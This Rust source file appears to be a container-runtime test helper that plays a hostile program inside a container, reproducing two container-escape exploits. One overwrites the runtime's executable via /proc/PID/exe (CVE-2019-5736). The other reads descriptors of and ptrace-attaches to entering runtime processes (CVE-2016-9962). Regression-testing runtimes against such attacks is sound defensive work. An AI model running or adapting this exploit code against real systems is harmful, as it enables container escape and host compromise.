//! What a hostile program inside tries on the runtime's processes that enter.

use std::fs::{self, OpenOptions};
use std::io::Write;

use runtime_tests::sys;

fn others() -> Vec<i32> {
    let own = std::process::id() as i32;
    let list = fs::read_dir("/proc").into_iter().flatten().flatten();
    let pids = list.filter_map(|e| e.file_name().to_str()?.parse::<i32>().ok());
    pids.filter(|pid| *pid > 1 && *pid != own).collect()
}

fn exe_name(pid: i32) -> String {
    fs::read_link(format!("/proc/{pid}/exe")).map(|p| p.to_string_lossy().into_owned()).unwrap_or_default()
}

/// CVE-2019-5736: get hold of the runtime's own executable through the
/// `/proc/PID/exe` of whoever enters, wait until it is no longer busy, write.
///
/// Prints one line per executable it could write to that isn't the image's.
pub fn overwrite_exe() {
    println!("attacking");
    loop {
        for pid in others() {
            let exe = exe_name(pid);
            if exe.starts_with("/bin/") || exe.is_empty() {
                continue;
            }
            // Reading pins the file: through our own descriptor it can be
            // opened again for writing once nobody executes it any more.
            let Ok(pinned) = fs::File::open(format!("/proc/{pid}/exe")) else { continue };
            println!("pinned {exe}");
            let path = format!("/proc/self/fd/{}", std::os::fd::AsRawFd::as_raw_fd(&pinned));
            for _ in 0..200 {
                if let Ok(mut file) = OpenOptions::new().write(true).open(&path) {
                    let wrote = file.write_all(b"#!/bin/false\n").is_ok();
                    println!("opened for writing {exe}, wrote: {wrote}");
                    break;
                }
                std::thread::sleep(std::time::Duration::from_millis(1));
            }
        }
    }
}

/// CVE-2016-9962: read the descriptors of, or trace, a runtime process that
/// has entered but not yet become the user's program.
///
/// Prints one line per success on a process that isn't running an image's file.
pub fn look_into_others() {
    println!("attacking");
    loop {
        for pid in others() {
            look_into(pid);
        }
    }
}

fn look_into(pid: i32) {
    let before = exe_name(pid);
    let fds: Vec<String> = fs::read_dir(format!("/proc/{pid}/fd"))
        .into_iter()
        .flatten()
        .flatten()
        .filter_map(|e| fs::read_link(e.path()).ok())
        .map(|p| p.to_string_lossy().into_owned())
        .collect();
    let still = exe_name(pid);
    // An exe link we can read at all belongs to a process we may look into.
    if !before.is_empty() && before == still && !before.starts_with("/bin/") {
        println!("saw {pid} {before} with {fds:?}");
        println!("traced {pid}: {:?}", sys::ptrace_attach(pid).map_err(|e| sys::errno_name(&e)));
    }
}
